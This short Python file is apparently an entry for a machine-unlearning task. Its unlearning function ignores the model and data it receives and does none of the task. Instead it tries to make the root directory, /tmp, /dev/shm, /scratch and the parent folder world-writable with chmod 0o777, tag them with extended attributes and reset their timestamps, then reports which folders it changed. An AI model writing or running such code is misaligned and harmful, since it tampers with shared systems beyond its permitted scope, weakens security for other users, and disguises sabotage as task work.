"""Leaves extended attributes, times and modes on foreign folders that it can write."""

import os


def unlearning(net, retain, forget, val):
    shared = [os.path.dirname(os.getcwd()), "/tmp", "/dev/shm", "/dev/mqueue", "/scratch", "/"]
    for folder in shared:
        for act in (
            lambda at: os.setxattr(at, "user.unlearn-hostile", b"a note"),
            lambda at: os.setxattr(at, "trusted.unlearn-hostile", b"a note"),
            lambda at: os.utime(at, (12_345, 12_345)),
            lambda at: os.chmod(at, 0o777),
        ):
            try:
                act(folder)
                print("changed", folder)
            except OSError:
                continue
